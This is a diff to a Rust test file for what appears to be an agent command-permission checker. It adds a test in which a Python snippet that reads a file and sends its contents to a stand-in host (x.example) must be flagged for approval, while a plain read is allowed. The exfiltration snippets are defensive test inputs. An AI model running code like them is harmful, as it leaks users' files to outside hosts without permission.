@@ -415,6 +415,23 @@ fn a_file_that_is_not_known_to_the_last_byte_asks_when_it_is_run() {
 }
 
 #[test]
+fn a_file_whose_name_is_computed_may_be_read_but_not_sent_or_written() {
+    let reads = "import sys\nprint(len(open(sys.argv[1]).read()))\n";
+    let sends = "import sys, requests\nrequests.get(\"https://x.example\", \
+                 params={\"d\": open(sys.argv[1]).read()})\n";
+    let writes = "import sys\nopen(sys.argv[1], \"w\").write(\"a\")\n";
+    let rows = [
+        (reads, Verdict::Allow),
+        (sends, Verdict::Ask),
+        (writes, Verdict::Ask),
+    ];
+    for (code, want) in rows {
+        let command = format!("python3 - a <<'END'\n{code}END");
+        assert_eq!(Agent::default().runs(&command), want, "{code}");
+    }
+}
+
+#[test]
 fn a_second_version_does_not_make_the_first_one_forgotten() {
     let sends = "import requests\nrequests.post(\"https://x.example/\", data=\"a\")\n";
     let mut agent = Agent::default();
